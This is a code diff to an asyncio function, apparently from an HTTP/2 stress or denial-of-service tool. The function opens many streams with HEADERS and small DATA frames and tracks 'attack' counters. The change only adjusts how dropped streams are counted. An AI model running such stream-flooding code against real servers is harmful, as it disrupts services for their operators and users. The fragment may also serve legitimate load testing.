@@ -83,7 +83,6 @@ async def _connection(
     window: int | None,
 ) -> None:
     reader, writer = await asyncio.open_connection(host, port)
-    opened = 0
     settings = b"" if window is None else struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, window)
     writer.write(PREFACE + frame(SETTINGS, 0, 0, settings) + settings)
     headers = request_headers(f"{host}:{port}", path, content_type)
@@ -93,11 +92,10 @@ async def _connection(
         writer.write(frame(HEADERS, END_HEADERS, stream, headers) + headers)
         writer.write(frame(DATA, 0, stream, b"\x00") + b"\x00")
         attack.opened += 1
-        opened += 1
     try:
         await writer.drain()
     except ConnectionError:
-        attack.dropped += opened
+        attack.dropped += streams
         raise
 
     async def read() -> None:
@@ -125,7 +123,7 @@ async def _connection(
         await asyncio.wait((reading, stopping), return_when=asyncio.FIRST_COMPLETED)
         if reading.done() and isinstance(reading.exception(), (ConnectionError, EOFError)):
             ended = sum(1 for key in attack.ended if key[:2] == (port, index))
-            attack.dropped += opened - ended
+            attack.dropped += streams - ended
     finally:
         for task in (reading, stopping):
             task.cancel()
